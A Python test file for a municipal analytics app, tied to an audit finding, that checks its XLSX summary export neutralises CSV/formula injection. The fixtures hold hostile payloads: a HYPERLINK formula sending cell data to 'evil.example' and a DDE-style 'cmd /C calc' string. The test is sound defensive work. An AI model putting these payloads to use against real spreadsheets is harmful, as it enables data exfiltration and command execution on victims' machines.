"""Audit finding 6: the summary of problems (XLSX) never carries a live formula from a resident's
text or a name."""

from __future__ import annotations

from datetime import date
from io import BytesIO
from types import SimpleNamespace

from openpyxl import load_workbook

from otklik.analytics.exports import summary_xlsx

EVIL = '=HYPERLINK("http://evil.example/?d="&A2,"Подробнее")'


def no_formula_cells(sheet) -> list:
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells), [c.value for c in cells if c.data_type == "f"]
    return [cell.value for cell in cells]


def test_the_summary_spreadsheet_has_no_live_formula():
    problem = SimpleNamespace(
        label=EVIL,
        cases=1,
        messages=1,
        open=1,
        overdue=0,
        resolved=0,
        previous=0,
        change=None,
        trend="new",
        examples=["@SUM(1+1)*cmd|' /C calc'!A0", "нет воды"],
    )
    summary = SimpleNamespace(
        scope=SimpleNamespace(date_from=date(2026, 3, 1), date_to=date(2026, 3, 7)),
        territory_name="-Энгельс",
        cases=1,
        messages=1,
        open=1,
        overdue=0,
        resolved=0,
        problems=[problem],
    )
    values = no_formula_cells(load_workbook(BytesIO(summary_xlsx(summary))).active)
    assert EVIL in values
